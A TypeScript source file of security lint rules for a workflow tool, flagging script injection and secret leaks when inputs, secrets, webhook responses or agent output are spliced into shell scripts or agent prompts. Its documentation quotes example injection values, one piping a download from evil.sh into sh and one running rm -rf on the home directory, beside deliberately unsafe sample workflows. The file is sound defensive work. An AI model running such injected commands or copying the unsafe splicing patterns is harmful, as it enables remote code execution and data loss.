import type { LintContext, LintRule } from '../lint-rule.js';
import type { ValuePath } from '../../source/source-positions.js';
import type { StepDefinition } from '../../definition/workflow-definition.js';
import { type Taint, type TaintedRead, describeRead, taintedReads } from './security-taint.js';

/** A template field of a step that one of these rules reads. */
interface Field {
  readonly step: StepDefinition;
  readonly path: ValuePath;
  readonly source: string;
}

function runScripts(context: LintContext): Field[] {
  return context.definition.steps.flatMap((step) =>
    step.type === 'shell' ? [{ step, path: ['steps', context.indexOf(step.id), 'run'], source: step.run }] : [],
  );
}

function prompts(context: LintContext): Field[] {
  return context.definition.steps.flatMap((step) => {
    if (step.type !== 'claude_code') return [];
    const at = ['steps', context.indexOf(step.id)];
    const fields: Field[] = [{ step, path: [...at, 'prompt'], source: step.prompt }];
    if (step.append_system_prompt !== undefined) {
      fields.push({ step, path: [...at, 'append_system_prompt'], source: step.append_system_prompt });
    }
    return fields;
  });
}

/**
 * Reports each reference in the fields that splices a value of `kind`, once
 * per place (an env value that reads two inputs is one finding), at the
 * reference's exact place in the file.
 */
function reportReads(
  context: LintContext,
  fields: readonly Field[],
  kind: Taint['kind'],
  explain: (what: string, read: TaintedRead) => string,
): void {
  for (const field of fields) {
    const byPlace = new Map<string, TaintedRead[]>();
    for (const read of taintedReads(context, field.step, field.source)) {
      if (read.taint.kind !== kind) continue;
      const key = `${read.reference.line}:${read.reference.column}`;
      byPlace.set(key, [...(byPlace.get(key) ?? []), read]);
    }
    for (const reads of byPlace.values()) {
      const first = reads[0]!;
      const what = [...new Set(reads.map(describeRead))].join(', ');
      context.report({
        message: `step "${field.step.id}": ${field.path.at(-1)} ${explain(what, first)}`,
        path: field.path,
        at: context.positions.templateSpan(field.path, field.source, first.reference),
        stepId: field.step.id,
      });
    }
  }
}

/** How to pass the value instead: `use "$DIR"` when it came through env, else a suggested env entry. */
function throughEnv(read: TaintedRead): string {
  const [root, name = 'VALUE'] = read.reference.path;
  if (root === 'env') return `write "$${name}" instead of {{env.${name}}}: env passes the value as a value`;
  const variable = (read.reference.path.at(-1) ?? name).toUpperCase().replace(/[^A-Z0-9_]/g, '_');
  return `pass it through env (${variable}: '{{${read.reference.path.join('.')}}}') and write "$${variable}"`;
}

export const INPUT_IN_RUN: LintRule = {
  id: 'input-in-run',
  category: 'security',
  severity: 'error',
  summary: 'A free-text run input (`inputs.*`) spliced into a shell `run:` script: script injection.',
  docs: {
    why:
      'Templates splice values into the script as text, with no shell quoting. Whoever starts the run chooses the ' +
      'input, and a value such as `x"; curl evil.sh | sh; "` or `$(rm -rf ~)` runs as part of the script. ' +
      'Inputs typed `number`, `integer` or `boolean`, or limited by `enum`, cannot carry code and are not ' +
      'reported; nor are inputs only tested (`{{#if inputs.x}}`, `{{eq inputs.x "a"}}`). The rule follows ' +
      '`{{env.X}}` when X reads an input, and `{{item}}` when `for_each` lists one. Inputs in a claude_code ' +
      "`prompt` are not reported: carrying the task's data is what a prompt is for, and what the agent may do " +
      'with it is bounded by its profile.',
    fix: 'Pass the value through `env:` and quote the variable in the script: `"$NAME"`.',
    bad: [
      'inputs: { who: { type: string } }',
      'steps:',
      '  - id: greet',
      '    type: shell',
      '    run: echo "Hello, {{inputs.who}}"',
    ].join('\n'),
    good: [
      'inputs: { who: { type: string } }',
      'steps:',
      '  - id: greet',
      '    type: shell',
      "    env: { WHO: '{{inputs.who}}' }",
      '    run: echo "Hello, $WHO"',
    ].join('\n'),
  },
  check(context) {
    reportReads(
      context,
      runScripts(context),
      'input',
      (what, read) =>
        `splices ${what} into the script: a value holding quotes, ";" or "$(…)" runs as code; ${throughEnv(read)}`,
    );
  },
};

export const SECRET_IN_RUN: LintRule = {
  id: 'secret-in-run',
  category: 'security',
  severity: 'error',
  summary: 'A secret (`secrets.*`) spliced into a shell `run:` script instead of passed through `env:`.',
  docs: {
    why:
      "A secret spliced into `run:` becomes part of the script's text: it shows in process listings " +
      '(`bash -c <script>`), in error messages that quote the script, and in `set -x` traces, and a value ' +
      'holding quotes breaks the script or runs as code. Masking hides values in the logs Flowline writes, ' +
      'not in every place the script text travels.',
    fix: 'Pass the secret through `env:` and use the variable: `env: { TOKEN: "{{secrets.TOKEN}}" }`, then `"$TOKEN"`.',
    bad: [
      'secrets: [NPM_TOKEN]',
      'steps:',
      '  - id: publish',
      '    type: shell',
      '    run: npm publish --token {{secrets.NPM_TOKEN}}',
    ].join('\n'),
    good: [
      'secrets: [NPM_TOKEN]',
      'steps:',
      '  - id: publish',
      '    type: shell',
      "    env: { NPM_TOKEN: '{{secrets.NPM_TOKEN}}' }",
      '    run: npm publish --token "$NPM_TOKEN"',
    ].join('\n'),
  },
  check(context) {
    reportReads(
      context,
      runScripts(context),
      'secret',
      (what, read) =>
        `splices ${what} into the script text, where process listings, error messages and traces show it; ${throughEnv(read)}`,
    );
  },
};

export const WEBHOOK_BODY_IN_RUN: LintRule = {
  id: 'webhook-body-in-run',
  category: 'security',
  severity: 'error',
  summary: "A webhook step's response `body` or `headers` spliced into a shell `run:` script.",
  docs: {
    why:
      "A webhook's response is whatever the remote server (or anyone between) sent. Spliced into a script it " +
      'runs as code as soon as it holds quotes, `;` or `$(…)`.',
    fix: 'Pass the value through `env:` and quote the variable; better, have the command read it as data (`jq`).',
    bad: [
      'steps:',
      '  - { id: lookup, type: webhook, method: GET, url: https://api.example.com/release }',
      '  - id: deploy',
      '    type: shell',
      '    needs: [lookup]',
      '    run: ./deploy.sh {{steps.lookup.outputs.body.version}}',
    ].join('\n'),
    good: [
      'steps:',
      '  - { id: lookup, type: webhook, method: GET, url: https://api.example.com/release }',
      '  - id: deploy',
      '    type: shell',
      '    needs: [lookup]',
      "    env: { VERSION: '{{steps.lookup.outputs.body.version}}' }",
      '    run: ./deploy.sh "$VERSION"',
    ].join('\n'),
  },
  check(context) {
    reportReads(
      context,
      runScripts(context),
      'webhook',
      (what, read) =>
        `splices ${what}, which a remote server chose, into the script, where quotes or "$(…)" in it run as code; ${throughEnv(read)}`,
    );
  },
};

export const AGENT_OUTPUT_IN_RUN: LintRule = {
  id: 'agent-output-in-run',
  category: 'security',
  severity: 'warning',
  summary: "A claude_code step's `result` spliced into a shell `run:` script.",
  docs: {
    why:
      "An agent's final answer is text a model wrote, and what the agent read (a file, an issue, a web page) " +
      'can steer it. Spliced into a script, a quote or `$(…)` in that text runs as code; even an innocent ' +
      'apostrophe breaks the script.',
    fix: 'Pass it through `env:` and quote the variable, or have the agent write a file the script reads.',
    bad: [
      'steps:',
      '  - { id: review, type: claude_code, prompt: Review the diff. }',
      '  - id: post',
      '    type: shell',
      '    needs: [review]',
      '    run: gh pr comment 1 --body "{{steps.review.outputs.result}}"',
    ].join('\n'),
    good: [
      'steps:',
      '  - { id: review, type: claude_code, prompt: Review the diff. }',
      '  - id: post',
      '    type: shell',
      '    needs: [review]',
      "    env: { BODY: '{{steps.review.outputs.result}}' }",
      '    run: gh pr comment 1 --body "$BODY"',
    ].join('\n'),
  },
  check(context) {
    reportReads(
      context,
      runScripts(context),
      'agent',
      (what, read) => `splices ${what}, text a model wrote, into the script; ${throughEnv(read)}`,
    );
  },
};

export const SECRET_IN_PROMPT: LintRule = {
  id: 'secret-in-prompt',
  category: 'security',
  severity: 'error',
  summary: 'A secret (`secrets.*`) in a claude_code `prompt` or `append_system_prompt`.',
  docs: {
    why:
      'A prompt is sent to the model provider and kept in the session; the agent may repeat what it was told ' +
      "in files it writes, commit messages or its answer. Masking covers Flowline's logs, not the provider " +
      'or the workspace. The agent rarely needs the value itself, only commands that use it.',
    fix:
      "Give the secret to the step's `env:`: the agent's commands see it as an environment variable and the " +
      "model never reads it. Tell the agent the variable's name if it must use it.",
    bad: [
      'secrets: [GITHUB_TOKEN]',
      'steps:',
      '  - id: triage',
      '    type: claude_code',
      '    prompt: Use the token {{secrets.GITHUB_TOKEN}} to read the issues.',
    ].join('\n'),
    good: [
      'secrets: [GITHUB_TOKEN]',
      'steps:',
      '  - id: triage',
      '    type: claude_code',
      "    env: { GITHUB_TOKEN: '{{secrets.GITHUB_TOKEN}}' }",
      '    prompt: Read the issues with gh (GITHUB_TOKEN is set).',
    ].join('\n'),
  },
  check(context) {
    reportReads(
      context,
      prompts(context),
      'secret',
      (what) =>
        `sends ${what} to the model: the value leaves for the model provider and may be repeated in what the agent writes; put it in the step's env, where only commands see it`,
    );
  },
};

export const INJECTION_RULES: readonly LintRule[] = [
  INPUT_IN_RUN,
  SECRET_IN_RUN,
  WEBHOOK_BODY_IN_RUN,
  AGENT_OUTPUT_IN_RUN,
  SECRET_IN_PROMPT,
];
